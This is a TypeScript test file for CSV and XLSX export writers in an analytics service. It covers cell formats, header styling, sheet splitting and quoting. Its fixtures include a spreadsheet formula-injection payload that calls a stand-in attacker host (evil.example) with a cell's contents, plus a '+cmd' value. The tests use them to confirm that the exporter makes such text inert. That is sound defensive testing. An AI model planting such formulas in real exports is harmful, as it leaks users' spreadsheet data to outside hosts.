import { PassThrough, Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvField, writeCsv } from '../../src/exports/csv-writer.js';
import { inertText } from '../../src/exports/inert.js';
import { writeXlsx } from '../../src/exports/xlsx-writer.js';
import type { ExportOptions } from '../../src/exports/export-options.js';
import type { Model } from '../../src/semantic/types.js';
import type { AnswerStream, ServedColumn } from '../../src/serving/types.js';
import type { Row } from '../../src/warehouse/port.js';
import { answerStreamOf } from '../support/answer-stream.js';

const COLUMNS: ServedColumn[] = [
  { name: 'metric_date', key: 'metric_date@week', kind: 'dimension', type: 'date', grain: 'week' },
  { name: 'platform', key: 'platform', kind: 'dimension', type: 'string' },
  { name: 'impressions', key: 'impressions', kind: 'measure', type: 'number', format: 'integer', measureType: 'sum' },
  { name: 'engagement_rate', key: 'engagement_rate', kind: 'measure', type: 'number', format: 'percent', measureType: 'ratio', description: 'Engagements per impression' },
  { name: 'spend', key: 'spend', kind: 'measure', type: 'number', format: 'currency', measureType: 'sum' },
  { name: 'watch_time', key: 'watch_time', kind: 'measure', type: 'number', format: 'duration', measureType: 'sum' },
  { name: 'avg_score', key: 'avg_score', kind: 'measure', type: 'number', format: 'decimal', measureType: 'avg' },
];

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';

const ROWS: Row[] = [
  { 'metric_date@week': '2026-01-05', platform: 'facebook', impressions: 120345, engagement_rate: 0.0534, spend: 1234.5, watch_time: 3725, avg_score: -0.25 },
  { 'metric_date@week': '2026-01-12', platform: HYPERLINK, impressions: -5, engagement_rate: null, spend: -20, watch_time: 59, avg_score: 0.5 },
  { 'metric_date@week': '2026-01-19', platform: '+cmd', impressions: 0, engagement_rate: 1, spend: 0, watch_time: 0, avg_score: null },
  { 'metric_date@week': '2026-01-26', platform: 'Zürich, "quoted"\nline', impressions: 7, engagement_rate: 0.5, spend: 3.25, watch_time: 86400, avg_score: 1 },
];

const MODEL: Model = {
  id: 'social.post_performance',
  team: 'social',
  name: 'post_performance',
  description: 'Daily performance of published posts.',
  table: 'social.post_daily',
  grain: ['platform', 'metric_date'],
  dimensions: [],
  measures: [
    { name: 'impressions', type: 'sum', format: 'integer' },
    { name: 'engagement_rate', type: 'ratio', numerator: 'engagements', denominator: 'impressions', format: 'percent' },
    { name: 'spend', type: 'sum', sql: 'ad_cost', format: 'currency' },
    { name: 'watch_time', type: 'sum', format: 'duration' },
    { name: 'avg_score', type: 'avg', sql: 'score', format: 'decimal' },
  ],
  joins: [],
  file: 'models/social/post_performance.yml',
};

function answer(rows: Row[] = ROWS, extra: Partial<Parameters<typeof answerStreamOf>[0]> = {}): AnswerStream {
  return answerStreamOf({
    columns: COLUMNS,
    rows,
    batchSize: 2,
    lastLoadedAt: '2026-01-27T06:00:00.000Z',
    query: { filters: [{ member: 'platform', operator: 'IN', values: ['facebook', HYPERLINK] }], orderBy: [{ member: 'impressions', direction: 'DESC' }] },
    ...extra,
  });
}

function collector(): { out: PassThrough; bytes: () => Promise<Buffer> } {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise<void>((resolve, reject) => {
    out.on('end', resolve);
    out.on('error', reject);
  });
  return { out, bytes: async () => (await done, Buffer.concat(chunks)) };
}

async function xlsxOf(a: AnswerStream, options: ExportOptions = {}) {
  const { out, bytes } = collector();
  const summary = await writeXlsx(a, out, { model: MODEL, generatedAt: new Date('2026-01-28T09:15:00Z'), ...options });
  const workbook = new ExcelJS.Workbook();
  const b = await bytes();
  await workbook.xlsx.load(b.buffer.slice(b.byteOffset, b.byteOffset + b.byteLength) as ArrayBuffer);
  return { summary, workbook };
}

describe('formula neutralisation', () => {
  it('prefixes text that a spreadsheet would run, and leaves other text alone', () => {
    for (const t of ['=1+2', '+1', '-1', '@SUM(A1)', '\tx', '\rx', HYPERLINK]) expect(inertText(t)).toBe(`'${t}`);
    for (const t of ['', 'facebook', ' =x', '1-2', "'=already"]) expect(inertText(t)).toBe(t);
  });
});

describe('XLSX writer', () => {
  it('writes a bold, frozen header with an autofilter, typed cells with the measures’ formats, and widths', async () => {
    const { summary, workbook } = await xlsxOf(answer());
    expect(summary).toEqual({ rows: 4, sheets: ['Data'] });
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Data', 'About']);
    const ws = workbook.getWorksheet('Data')!;
    expect(ws.getRow(1).values).toEqual([undefined, 'metric_date (week)', 'platform', 'impressions', 'engagement_rate', 'spend', 'watch_time', 'avg_score']);
    for (let c = 1; c <= COLUMNS.length; c++) expect(ws.getRow(1).getCell(c).font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.autoFilter).toBe('A1:G1');
    // exceljs reads a <col> range that covers equal neighbours onto its last column only, so some read back undefined.
    const widths = ws.columns.map((c) => c.width).filter((w): w is number => w !== undefined);
    expect(widths.length).toBeGreaterThanOrEqual(5);
    for (const w of widths) expect(w).toBeGreaterThanOrEqual(8);
    for (const w of widths) expect(w).toBeLessThanOrEqual(60);
    expect(ws.getColumn(2).width).toBeGreaterThan(ws.getColumn(3).width!); // the long platform text

    const r2 = ws.getRow(2);
    expect(r2.getCell(1).value).toEqual(new Date('2026-01-05T00:00:00Z'));
    expect(r2.getCell(1).numFmt).toBe('yyyy-mm-dd');
    expect(r2.getCell(3).value).toBe(120345);
    expect(r2.getCell(3).numFmt).toBe('#,##0');
    expect(r2.getCell(4).value).toBe(0.0534);
    expect(r2.getCell(4).numFmt).toBe('0.00%');
    expect(r2.getCell(5).value).toBe(1234.5);
    expect(r2.getCell(5).numFmt).toBe('#,##0.00_);(#,##0.00)');
    // A duration is an Excel time value (days); exceljs reads time-formatted cells back as dates from 1899-12-30.
    const excelEpoch = Date.UTC(1899, 11, 30);
    expect(((r2.getCell(6).value as Date).getTime() - excelEpoch) / 1000).toBeCloseTo(3725, 3);
    expect(r2.getCell(6).numFmt).toBe('[h]:mm:ss');
    expect(r2.getCell(7).value).toBe(-0.25);
    expect(r2.getCell(7).numFmt).toBe('#,##0.00');

    // Negative numbers stay numbers; the formula stays text, made inert; null is an empty cell.
    const r3 = ws.getRow(3);
    expect(r3.getCell(3).value).toBe(-5);
    expect(r3.getCell(3).type).toBe(ExcelJS.ValueType.Number);
    expect(r3.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(r3.getCell(2).value).toBe(`'${HYPERLINK}`);
    expect(r3.getCell(4).value).toBeNull();
    expect(ws.getRow(4).getCell(2).value).toBe("'+cmd");
    expect(ws.getRow(5).getCell(2).value).toBe('Zürich, "quoted"\nline');
    expect(((ws.getRow(5).getCell(6).value as Date).getTime() - excelEpoch) / 1000).toBeCloseTo(86400, 3);
    expect(ws.rowCount).toBe(5);
  });

  it('has an About sheet: question, filters, generated at, freshness, row count, measure definitions', async () => {
    const { workbook } = await xlsxOf(answer());
    const about = workbook.getWorksheet('About')!;
    const lines = new Map<string, string>();
    const all: string[] = [];
    about.eachRow((row) => {
      const cells = (row.values as unknown[]).slice(1).map((v) => (v === undefined || v === null ? '' : String(v)));
      all.push(cells.join(' | '));
      if (cells[0]) lines.set(cells[0], cells.slice(1).join(' | '));
    });
    expect(lines.get('Model')).toBe('social.post_performance — Daily performance of published posts.');
    expect(lines.get('Question')).toContain('impressions, engagement_rate, spend, watch_time, avg_score from social.post_performance, by metric_date (week), platform');
    expect(lines.get('Question')).toContain('ordered by impressions descending');
    expect(lines.get('Filters')).toBe(`platform is one of "facebook", "${HYPERLINK}"`);
    expect(lines.get('Generated at (UTC)')).toBe('2026-01-28 09:15:00 UTC');
    expect(lines.get('Data freshness')).toBe('last loaded 2026-01-27T06:00:00.000Z');
    expect(lines.get('Rows')).toBe('4');
    expect(lines.get('engagement_rate')).toBe('percent | engagements / impressions, each summed over the group first (not additive: do not sum or average it again) | Engagements per impression');
    expect(lines.get('spend')).toBe('currency | sum of ad_cost');
    expect(lines.get('avg_score')).toContain('average of score');
    expect(all.some((l) => l.includes('Durations are time values'))).toBe(true);
    // Every About cell is inert too: a filter value is the client's text.
    about.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('goes on in a new sheet past the rows a sheet may hold, and the About sheet says so', async () => {
    const rows = Array.from({ length: 7 }, (_, i) => ({ ...ROWS[0], impressions: i + 1 }));
    const { summary, workbook } = await xlsxOf(answer(rows), { maxRowsPerSheet: 3 });
    expect(summary).toEqual({ rows: 7, sheets: ['Data', 'Data 2', 'Data 3'] });
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Data', 'Data 2', 'Data 3', 'About']);
    const values = (name: string) => {
      const ws = workbook.getWorksheet(name)!;
      expect(ws.getRow(1).getCell(3).value).toBe('impressions');
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      const out: unknown[] = [];
      for (let r = 2; r <= ws.rowCount; r++) out.push(ws.getRow(r).getCell(3).value);
      return out;
    };
    expect(values('Data')).toEqual([1, 2, 3]);
    expect(values('Data 2')).toEqual([4, 5, 6]);
    expect(values('Data 3')).toEqual([7]);
    const text: string[] = [];
    workbook.getWorksheet('About')!.eachRow((row) => text.push((row.values as unknown[]).slice(1).join(' | ')));
    expect(text).toContain(' | Data 2: rows 4 to 6');
    expect(text.some((t) => t.startsWith('Sheets | 3 data sheets: a sheet holds at most 3 rows'))).toBe(true);
  });

  it('writes the header alone for an empty answer', async () => {
    const { summary, workbook } = await xlsxOf(answer([]));
    expect(summary).toEqual({ rows: 0, sheets: ['Data'] });
    expect(workbook.getWorksheet('Data')!.rowCount).toBe(1);
  });

  it('fails instead of hanging when the output goes away', async () => {
    const out = new Writable({ write: (_c, _e, cb) => setTimeout(cb, 5), highWaterMark: 1024 });
    const many = function* () {
      for (let i = 0; i < 200_000; i++) yield { ...ROWS[3], impressions: i };
    };
    const running = writeXlsx(answerStreamOf({ columns: COLUMNS, rows: many(), batchSize: 5000 }), out);
    setTimeout(() => out.destroy(new Error('client went away')), 50);
    await expect(running).rejects.toThrow();
  });
});

describe('CSV writer', () => {
  it('writes RFC 4180 CSV in UTF-8 with a BOM, CRLF line ends, inert text and plain numbers', async () => {
    const { out, bytes } = collector();
    const summary = await writeCsv(answer(), out);
    expect(summary.rows).toBe(4);
    const buf = await bytes();
    expect([...buf.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = buf.toString('utf8').slice(1);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toEqual([
      'metric_date (week),platform,impressions,engagement_rate,spend,watch_time,avg_score',
      '2026-01-05,facebook,120345,0.0534,1234.5,3725,-0.25',
      `2026-01-12,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")",-5,,-20,59,0.5`,
      "2026-01-19,'+cmd,0,1,0,0,",
      '2026-01-26,"Zürich, ""quoted""\nline",7,0.5,3.25,86400,1',
      '',
    ]);
  });

  it('quotes only the fields that need it', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
  });
});
